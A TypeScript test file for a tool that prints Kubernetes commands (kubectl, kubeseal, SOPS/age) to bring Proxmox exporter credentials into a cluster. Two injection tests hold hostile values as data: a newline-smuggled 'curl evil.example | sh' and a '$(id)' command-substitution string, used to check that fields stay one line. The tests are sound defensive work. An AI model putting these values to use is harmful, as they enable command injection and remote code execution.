import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { credentialSteps } from '../../lib/commands/steps/credential-steps.ts'
import { complete } from '../../lib/environment/defaults.ts'
import type { Credentials } from '../../lib/environment.ts'
import { lab } from '../generate/overlay/render.ts'
import { environmentFile, tree } from '../tree.ts'
import { judged } from '../validate/judged.ts'

const token = `"\${TOKEN:?first: read -rs TOKEN}"`
const variables = `--from-literal=PVE_USER=prometheus@pve --from-literal=PVE_TOKEN_NAME=monitoring --from-literal=PVE_TOKEN_VALUE=${token}`
const kubeseal = 'kubeseal --raw --namespace monitoring --name lab-proxmox-monit-pve-exporter'

/** Each source, and the commands that bring the credentials of the environment `lab` from there. */
const steps: [string, Credentials, string[]][] = [
  [
    'a Secret',
    { secret: 'lab-token' },
    [`kubectl --namespace monitoring create secret generic lab-token ${variables}`],
  ],
  [
    'a configSecret',
    { configSecret: 'lab-config' },
    ['kubectl --namespace monitoring create secret generic lab-config --from-file=pve.yml'],
  ],
  [
    'an ExternalSecret',
    { externalSecret: { store: { name: 'vault', kind: 'ClusterSecretStore' }, key: 'pve/lab' } },
    [
      '# ClusterSecretStore vault: the entry pve/lab must hold user, tokenName, tokenValue',
      'kubectl --namespace monitoring wait --for=condition=Ready externalsecret/lab-proxmox-monit-pve-exporter --timeout=2m',
    ],
  ],
  [
    'a SealedSecret',
    { sealedSecret: { encryptedData: { PVE_USER: 'AgB', PVE_TOKEN_NAME: 'AgC', PVE_TOKEN_VALUE: 'AgD' } } },
    [
      `printf %s prometheus@pve | ${kubeseal} --from-file=/dev/stdin`,
      `printf %s monitoring | ${kubeseal} --from-file=/dev/stdin`,
      `printf %s ${token} | ${kubeseal} --from-file=/dev/stdin`,
    ],
  ],
  [
    'a sealed pve.yml',
    { sealedSecret: { encryptedData: { 'pve.yml': 'AgB' } } },
    [`${kubeseal} --from-file=pve.yml`],
  ],
  [
    'a SOPS file',
    { sops: { file: 'token.sops.yaml' } },
    [
      'age-keygen --output age.agekey',
      `kubectl create secret generic pve-exporter ${variables} --dry-run=client --output yaml | sops --encrypt --mac-only-encrypted --age "$(age-keygen -y age.agekey)" --encrypted-regex '^(data|stringData)$' --input-type yaml --output-type yaml /dev/stdin > overlays/lab/token.sops.yaml`,
      'kubectl --namespace flux-system create secret generic sops-age --from-file=age.agekey',
    ],
  ],
]

for (const [source, credentials, expected] of steps)
  test(`${source} is brought by these commands`, () => {
    const pveExporter = { tls: 'insecure' as const, credentials }
    assert.equal(credentialSteps(complete('lab', 'environments/lab.ts', { ...lab, pveExporter })), expected)
  })

test('no field brings a line of its own among the commands', () => {
  const evil = 'pve/lab\ncurl evil.example | sh #'
  const entry = { store: { name: 'vault' }, key: 'pve/lab' }
  for (const [path, externalSecret] of [
    ['key', { ...entry, key: evil }],
    ['key', { ...entry, key: 'a\tb' }],
    ...['user', 'tokenName', 'tokenValue'].map(name => [
      `properties.${name}`,
      { ...entry, properties: { user: 'a', tokenName: 'b', tokenValue: 'c', [name]: evil } },
    ]),
  ] as [string, object][]) {
    const given: unknown = path.split('.').reduce((value, key) => Reflect.get(value, key), externalSecret)
    const shown = path.endsWith('tokenValue') ? '(hidden)' : given
    assert.equal(
      judged({ lab: { ...lab, pveExporter: { tls: 'insecure', credentials: { externalSecret } } } }),
      [
        `environments/lab.ts: pveExporter.credentials.externalSecret.${path} ${JSON.stringify(shown)} is not text of one line that is not empty`,
      ],
    )
  }
})

test('what a comment quotes stays one line, and a command has nothing of it', () => {
  const key = '$(id) `id` "; id #'
  const steps = credentialSteps(
    complete('lab', 'environments/lab.ts', {
      ...lab,
      pveExporter: { tls: 'insecure', credentials: { externalSecret: { store: { name: 'vault' }, key } } },
    }),
  )
  assert.equal(
    steps
      .join('\n')
      .split('\n')
      .map(line => line.includes(key)),
    [true, false],
  )
  assert.match(steps[0] as string, /^# /)
})

const { run, remove } = tree({ 'environments/lab.ts': environmentFile(lab) })
test.after(remove)

test('the command line prints them for an environment', () => {
  assert.is(
    run('credentials lab').stdout,
    `kubectl --namespace monitoring create secret generic pve-exporter ${variables}\n`,
  )
})

test('an environment that is not there is an error that names those that are', () => {
  const { status, stderr } = run('credentials paris')
  assert.is(status, 1)
  assert.is(
    stderr,
    'environments: has no valid environment "paris"; it has lab\n1 problem; nothing was printed\n',
  )
})

test.run()
